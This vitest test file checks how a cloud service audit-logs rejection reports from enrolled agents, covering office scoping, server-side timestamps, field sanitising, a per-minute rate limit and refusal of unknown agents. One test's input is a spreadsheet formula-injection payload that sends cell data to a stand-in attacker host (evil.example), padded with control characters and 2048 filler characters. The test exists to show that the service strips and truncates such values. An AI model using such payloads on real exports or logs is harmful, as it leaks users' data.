import { createHash } from 'node:crypto';
import type { JobResult } from '@cardfleet/shared';
import { beforeEach, describe, expect, it } from 'vitest';
import { AgentStore } from '../agents/agent-store';
import { AuditLog } from '../audit/audit-log';
import { auditPage } from '../audit/audit-pages';
import { localKeyWrapper } from '../crypto/envelope-encryption';
import { localSigner } from '../crypto/signer';
import { JobStore } from '../jobs/job-store';
import { EnvelopeRecords } from '../publishing/envelope-records';
import { MemoryTable } from '../storage/memory-table';
import { uncataloguedItems } from '../storage/table-key-patterns';
import { REJECTION_REASON_MAX, RejectionReports } from './rejection-reports';
import { type IngestDeps, ingestResult } from './result-ingestion';
import { ResultStore } from './result-store';

/**
 * The attack (docs/security.md, "An enrolled agent"): an enrolled agent reports
 * rejections of envelopes the cloud never sent it, each with a new hash, an `at` of its
 * choosing and a long reason, to fill the audit trail — under office `*`, where its own
 * office's operators would not see the entries.
 */
describe('rejection reports of envelopes the cloud never sent', () => {
  const AGENT = 'agent-1';
  let clock: string;
  const now = () => clock;
  let table: MemoryTable;
  let audit: AuditLog;
  let agents: AgentStore;
  let deps: IngestDeps;

  const report = (n: number, extra: Partial<JobResult> = {}): JobResult => {
    const envelopeSha256 = createHash('sha256').update(`never sent ${n}`).digest('hex');
    return {
      jobId: `envelope:${envelopeSha256}`,
      attempt: 1,
      agentId: AGENT,
      status: 'REJECTED',
      finishedAt: '2001-01-01T00:00:00.000Z',
      applications: [],
      rejection: { reason: 'ENVELOPE_SIGNATURE_INVALID', envelopeSha256 },
      ...extra,
    };
  };
  const rejected = async (action = 'envelope.rejected') =>
    (await audit.entries()).filter((e) => e.action === action);

  beforeEach(async () => {
    clock = '2026-12-06T03:00:00.000Z';
    table = new MemoryTable();
    const keyWrapper = localKeyWrapper(new Uint8Array(32));
    audit = new AuditLog(table, await localSigner('k1'), keyWrapper, { now });
    agents = new AgentStore(table, audit, now);
    await agents.add(AGENT, 'berlin', 'admin');
    deps = {
      results: new ResultStore(table),
      envelopes: new EnvelopeRecords(table),
      jobs: new JobStore(table, keyWrapper, audit, now),
      audit,
      rejections: new RejectionReports(table, agents, audit, now),
      now,
    };
  });

  it("files the entry under the agent's own office at the server's time, with only bounded, named fields", async () => {
    const reason = `=HYPERLINK("https://evil.example/?"&A1)\r\n\u0000${'x'.repeat(2048)}`;
    const base = report(1);
    await ingestResult(deps, {
      ...base,
      rejection: { reason, envelopeSha256: base.rejection?.envelopeSha256 ?? '' },
    });

    const [entry] = await rejected();
    expect(entry).toMatchObject({ office: 'berlin', at: clock, actor: `agent:${AGENT}`, agentId: AGENT });
    expect(Object.keys(entry?.details ?? {}).sort()).toEqual([
      'agentReportedAt',
      'dedupeKey',
      'envelopeSha256',
      'reason',
      'reasonLength',
    ]);
    const details = entry?.details as Record<string, unknown>;
    expect(details.agentReportedAt).toBe('2001-01-01T00:00:00.000Z');
    expect(details.reasonLength).toBe(reason.length);
    expect(String(details.reason)).toHaveLength(REJECTION_REASON_MAX);
    expect(String(details.reason)).toMatch(/^[A-Za-z0-9_.:\- ?]+$/);
    // The office's operators see it in their office's listing.
    const page = await auditPage(table, audit.shards, { office: 'berlin' }, 50);
    expect(page.items.map((e) => e.action)).toContain('envelope.rejected');
  });

  it('keeps an ordinary reason as the agent sent it, and drops a reported time that is no time', async () => {
    await deps.rejections.record(
      AGENT,
      { reason: 'ENVELOPE_EXPIRED', envelopeSha256: 'a'.repeat(64) },
      'soon',
    );
    const [entry] = await rejected();
    expect(entry?.details).toMatchObject({ reason: 'ENVELOPE_EXPIRED' });
    expect(entry?.details).not.toHaveProperty('agentReportedAt');
    expect(entry?.details).not.toHaveProperty('reasonLength');
  });

  it("stops a flood of reports at the agent's budget per minute, saying so once, and takes reports again the next minute", async () => {
    for (let n = 0; n < 25; n++) await ingestResult(deps, report(n));
    expect(await rejected()).toHaveLength(10);
    const limited = await rejected('envelope.rejections-limited');
    expect(limited).toHaveLength(1);
    expect(limited[0]).toMatchObject({
      office: 'berlin',
      details: { minute: '2026-12-06T03:00Z', perMinute: 10 },
    });

    clock = '2026-12-06T03:01:00.000Z';
    await ingestResult(deps, report(100));
    expect(await rejected()).toHaveLength(11);
    expect(await audit.verify()).toMatchObject({ ok: true });
    expect(uncataloguedItems(table.allItems()).uncatalogued).toEqual([]);
  });

  it('shares the budget between instances (Lambda instances share the table, not their memory)', async () => {
    const other = new RejectionReports(table, agents, audit, now);
    const instances = [deps.rejections, other];
    await Promise.all(
      Array.from({ length: 24 }, (_, n) => {
        const r = report(n);
        return instances[n % 2]?.record(
          AGENT,
          r.rejection ?? { reason: '', envelopeSha256: '' },
          r.finishedAt,
        );
      }),
    );
    expect(await rejected()).toHaveLength(10);
    expect(await rejected('envelope.rejections-limited')).toHaveLength(1);
  });

  it('audits nothing for an agent the cloud does not know', async () => {
    await expect(ingestResult(deps, report(1, { agentId: 'agent-unknown' }))).rejects.toMatchObject({
      code: 'FORBIDDEN',
    });
    expect(await rejected()).toEqual([]);
  });
});
